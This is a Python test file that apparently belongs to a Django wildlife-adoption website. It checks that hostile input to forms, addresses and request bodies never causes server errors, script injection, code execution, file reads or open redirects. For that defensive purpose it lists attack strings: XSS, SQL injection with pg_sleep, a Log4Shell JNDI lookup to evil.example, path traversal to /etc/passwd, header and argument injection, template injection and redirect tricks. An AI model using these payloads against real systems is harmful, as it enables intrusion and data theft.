"""What strangers send, into every public field, address and parameter: a clear page each time, never a 500."""

import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import pytest
from django.db import transaction
from django.test import Client
from pytest_django.plugin import DjangoDbBlocker

from adoptions.models import Complaint
from species.models import Comment
from tests.makers import make_plan
from tests.our_content import put_our_content

pytestmark = pytest.mark.django_db

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nBcc: x@evil.example",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "' OR '1'='1' --",
    "'; SELECT pg_sleep(10); --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "=HYPERLINK(\"http://evil\")",
    "%s%n%x",
    "%00",
    "%",
    "\\",
    "\u202emoc.live",
    "\u200b\u200b",
    "Z" + "\u0301" * 500,
    "🐆" * 50,
    "محمد العربي",
    "王小明",
    "ﷺ" * 100,
    "１２３",
    "1e309",
    "-1",
    "NaN",
    "9" * 400,
    "0x10",
    "null",
    "undefined",
    "[]",
    "a" * 10_000,
    "\t\n\v\f\r",
    "\u2028\u2029",
    "\ufeff\ufffe",
    "＜script＞",
    "https://evil.example/ https://evil.example/ https://evil.example/",
    "x@y@z",
    '"a@b"@example.org',
    "-oQ/tmp@example.org",
    "00000000-0000-0000-0000-000000000000",
    "((((((((((a)))))))))+",
    "a" * 60 + "!",
    "OR 1=1",
    "<!--",
    "]]>",
    "&#0;&#x0;",
    "\u0130\u0131",
]  # fmt: skip
ADOPT = {
    "frequency": "once",
    "amount_once": "3600",
    "name": "Sam",
    "email": "sam@example.org",
    "is_gift": "me",
    "step": "check",
    "recipient_name": "Ellie",
    "other_amount": "",
    "attempt": "",
    "c": "",
    "plan": "friend",
}
REPLY = {"name": "Sam", "email": "sam@example.org", "comment": "Hello", "parent": "", "reply_to": ""}


@pytest.fixture(scope="module")
def sam(django_db_setup: None, django_db_blocker: DjangoDbBlocker) -> Iterator[Client]:
    """A stranger at the whole site; what Sam leaves behind is undone."""
    with django_db_blocker.unblock(), transaction.atomic():
        put_our_content()
        make_plan()
        yield Client(raise_request_exception=False)
        transaction.set_rollback(True)


class Tags(HTMLParser):
    """What a browser would make of a page: the tags and attributes that could run something."""

    def __init__(self) -> None:
        super().__init__()
        self.dangerous: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        source = values.get("src") or ""
        if tag == "script" and not source.startswith("/static/") and values.get("type") != "application/ld+json":
            self.dangerous.append(f"{tag} {values}")
        if any(name.startswith("on") for name in values) or (values.get("href") or "").startswith("javascript:"):
            self.dangerous.append(f"{tag} {values}")


def check(response: Any, what: str) -> None:
    assert response.status_code < 500, what
    if response.headers.get("Content-Type", "").startswith("text/html"):
        tags = Tags()
        tags.feed(response.content.decode())
        assert tags.dangerous == [], what


def all_at_once(number: int, names: list[str]) -> dict[str, str]:
    """Something hostile for every name: over all numbers each name has each value, beside changing others."""
    return {name: HOSTILE[(number + 7 * place) % len(HOSTILE)] for place, name in enumerate(names)}


def test_adopt_form_takes_anything_everywhere(sam: Client) -> None:
    for number in range(len(HOSTILE)):
        answers = all_at_once(number, list(ADOPT))
        check(sam.post("/adopt/amur-leopard/", answers), f"{answers}")


@pytest.mark.threat("P3")
@pytest.mark.parametrize("field", ["name", "email", "recipient_name", "other_amount", "attempt"])
def test_adopt_form_that_is_right_but_for_one_field_takes_anything(sam: Client, field: str) -> None:
    for value in HOSTILE:
        gift = {"is_gift": "gift"} if field == "recipient_name" else {}
        check(sam.post("/adopt/amur-leopard/", {**ADOPT, **gift, field: value}), f"{field}={value!r}")


@pytest.mark.parametrize("field", ["name", "email", "comment"])
def test_reply_form_takes_anything(sam: Client, field: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("config.limits.Limit.allows", lambda self, who: True)
    for value in HOSTILE:
        check(sam.post("/species/amur-leopard/comments/", {**REPLY, field: value}), f"{field}={value!r}")
    assert not Comment.objects.filter(status="approved").exists()


@pytest.mark.threat("P3")
@pytest.mark.parametrize("field", ["about", "name", "email", "words", "homepage"])
def test_complaint_form_takes_anything(sam: Client, field: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("config.limits.Limit.allows", lambda self, who: True)
    right = {"about": "data", "name": "Sam", "email": "sam@example.org", "words": "You wrote to me."}
    for number, value in enumerate(HOSTILE):
        typed = {**right, "words": f"You wrote to me {number} times.", field: value}
        check(sam.post("/complaints/", typed), f"{field}={value!r}")
    assert not Complaint.objects.exclude(closed_at=None).exists()


@pytest.mark.threat("P3")
def test_adopt_address_takes_any_parameters(sam: Client) -> None:
    names = ["amount", "frequency", "plan", "gift", "c", "s", "utm_source"]
    for number in range(len(HOSTILE)):
        query = all_at_once(number, names)
        address = "&".join(f"{name}={quote(value.encode('utf-8', 'replace'))}" for name, value in query.items())
        check(sam.get(f"/adopt/amur-leopard/?{address}"), address)


@pytest.mark.threat("P3", "C1")
@pytest.mark.parametrize(
    "address",
    [
        "/search/?q={}",
        "/species/amur-leopard/?before={}",
        "/species/amur-leopard/?reply_to={}",
        "/?c={}",
        "/certificates/?reference={}",
    ],
)
def test_reading_page_takes_any_parameter(sam: Client, address: str) -> None:
    for value in HOSTILE:
        check(sam.get(address.format(quote(value.encode("utf-8", "replace")))), f"{address} {value!r}")


@pytest.mark.threat("O4", "P3")
@pytest.mark.parametrize(
    "address",
    [
        "/species/{}/",
        "/threats/{}/",
        "/adopt/{}/",
        "/go/{}",
        "/api/species/{}.json",
        "/adoptions/{}/thanks/",
        "/pay/{}/",
        "/adoptions/{}/certificate.pdf",
        "/feeds/comments/{}.xml",
        "/field-notes/{}/",
        "/{}",
    ],
)
def test_any_address_is_answered(sam: Client, address: str) -> None:
    for value in HOSTILE:
        response = sam.get(address.format(quote(value.encode("utf-8", "replace"), safe="")))
        check(response, f"{address} {value!r}")
        assert response.status_code in {200, 301, 302, 400, 404}, value


@pytest.mark.threat("P3")
@pytest.mark.parametrize(
    "kind",
    [
        "application/json",
        "text/plain",
        "multipart/form-data; boundary=x",
        "multipart/form-data",
        "application/octet-stream",
    ],
)
@pytest.mark.parametrize(
    "address",
    ["/adopt/amur-leopard/", "/species/amur-leopard/comments/", "/complaints/", "/stripe/webhook/", "/admin/login/"],
)
def test_any_body_is_answered(sam: Client, address: str, kind: str) -> None:
    for body in (
        b"",
        b"\xff\xfe",
        b"a=b",
        b"%",
        b"{",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb',
        b"x" * 300_000,
    ):
        check(sam.post(address, body, content_type=kind), f"{address} {kind} {body[:40]!r}")


@pytest.mark.parametrize("method", ["put", "delete", "patch", "options", "trace"])
def test_other_methods_are_405(sam: Client, method: str) -> None:
    for address in ("/", "/species/amur-leopard/", "/adopt/amur-leopard/", "/stripe/webhook/", "/go/x"):
        assert getattr(sam, method)(address).status_code == 405, address


@pytest.mark.threat("O6")
def test_words_are_run_by_nobody(sam: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sum that is worked out, a database that sleeps until it is cut off, a file that is read: each would be seen."""
    monkeypatch.setattr("config.limits.Limit.allows", lambda self, who: True)
    for words in (
        "{{ 1337*7331 }}{% widthratio 1337 1 7331 %}",
        "${1337*7331} #{1337*7331} <%= 1337*7331 %>",
        "'; SELECT pg_sleep(20); --",
        "' || (SELECT pg_sleep(20)) || '",
        "1) OR (SELECT pg_sleep(20)) IS NULL --",
        "../../../../../../etc/passwd",
        "file:///etc/passwd",
    ):
        began = time.monotonic()
        answers = [
            sam.get("/search/", {"q": words}),
            sam.get("/adopt/amur-leopard/", {"plan": words, "amount": words, "c": words}),
            sam.get("/certificates/", {"reference": words}),
            sam.get(f"/species/{quote(words, safe='')}/"),
            sam.get(f"/static/{quote(words)}"),
            sam.post("/adopt/amur-leopard/", {**ADOPT, "is_gift": "gift", "name": words, "recipient_name": words}),
            sam.post("/species/amur-leopard/comments/", {**REPLY, "name": words, "comment": words, "preview": "1"}),
        ]
        assert [answer.status_code for answer in answers if answer.status_code >= 500] == [], words
        assert time.monotonic() - began < 15, words
        pages = [b"".join(answer) for answer in answers]
        assert not [page for page in pages if b"9801547" in page or b"root:" in page], words


@pytest.mark.threat("P5")
@pytest.mark.parametrize(
    "words",
    ["a." * 2500 + "@", "a@" * 2500, "1 " * 2500, " " * 5000 + "x", "[^a" * 1600],
    ids=["dots", "at", "digits", "spaces", "notes"],
)
def test_no_words_keep_us_busy(sam: Client, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("config.limits.Limit.allows", lambda self, who: True)
    asking: list[Callable[[], Any]] = [
        lambda: sam.get("/search/", {"q": words}),
        lambda: sam.get("/adopt/amur-leopard/", {"plan": words, "amount": words, "c": words}),
        lambda: sam.post("/adopt/amur-leopard/", {**ADOPT, **dict.fromkeys(("name", "email", "other_amount"), words)}),
        lambda: sam.post("/species/amur-leopard/comments/", {**REPLY, "comment": words}),
        lambda: sam.post("/species/amur-leopard/comments/", {**REPLY, "name": words, "email": words}),
        lambda: sam.post("/my-adoption/", {"email": words}),
    ]
    for ask in asking:
        began = time.thread_time()  # of this thread alone, however busy the machine is
        assert ask().status_code < 500
        assert time.thread_time() - began < 2


@pytest.mark.threat("L11")
@pytest.mark.parametrize(
    "address",
    [
        "/{}",
        "//{}",
        "/go/{}",
        "/go/x?next={}",
        "/species/{}",
        "/adopt/amur-leopard?next={}",
        "/my-adoption/?next={}",
        "/admin/?next={}",
    ],
)
def test_no_address_leads_to_another_site(sam: Client, address: str) -> None:
    for elsewhere in (
        "https://evil.example/",
        "https:evil.example",
        "//evil.example",
        "///evil.example",
        "/..//evil.example",
        "/%09/evil.example",
        "%2f%2fevil.example",
        "/%5cevil.example/%2e%2e",
        "\\\\evil.example",
        "https://testserver@evil.example",
        "evil.example/about",
        "javascript:alert(1)",
    ):
        place = sam.get(address.format(elsewhere)).headers.get("Location", "")
        # As browsers read it: a backslash is a slash, and white space within is dropped.
        read = urljoin("http://testserver/", place.replace("\\", "/").replace("\t", "").replace("\n", ""))
        assert (urlsplit(read).scheme, urlsplit(read).netloc) == ("http", "testserver"), f"{elsewhere}: {place}"
